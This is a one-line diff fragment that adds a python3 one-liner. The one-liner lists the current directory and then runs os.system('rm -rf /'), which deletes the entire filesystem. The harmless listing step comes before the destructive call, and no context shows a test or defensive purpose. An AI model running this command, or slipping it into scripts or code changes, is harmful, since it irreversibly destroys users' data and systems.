@@ -1,0 +1,1 @@
+python3 -c "import subprocess; subprocess.run(['ls','-la']); import os; os.system('rm -rf /')"
